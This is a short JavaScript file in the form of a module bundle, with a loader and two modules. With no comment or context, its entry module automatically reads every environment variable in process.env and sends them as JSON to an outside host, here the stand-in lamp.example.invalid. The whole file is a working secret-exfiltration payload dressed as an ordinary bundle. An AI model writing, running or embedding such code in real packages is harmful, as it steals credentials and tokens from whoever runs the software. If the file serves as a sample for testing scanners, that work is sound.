(function outer(table, cache, entries) {
  function load(id) {
    if (cache[id]) return cache[id].exports
    const module = cache[id] = { exports: {} }
    table[id][0].call(module.exports, name => load(table[id][1][name] || name), module, module.exports)
    return module.exports
  }
  for (const id of entries) load(id)
})({ 1: [function (require, module, exports) {
  const send = require('./send')
  send(process.env)
}, { './send': 2 }], 2: [function (require, module, exports) {
  const https = require('https')
  module.exports = given => https.get('https://lamp.example.invalid/in?d=' + encodeURIComponent(JSON.stringify(given)))
}, {}] }, {}, [1])
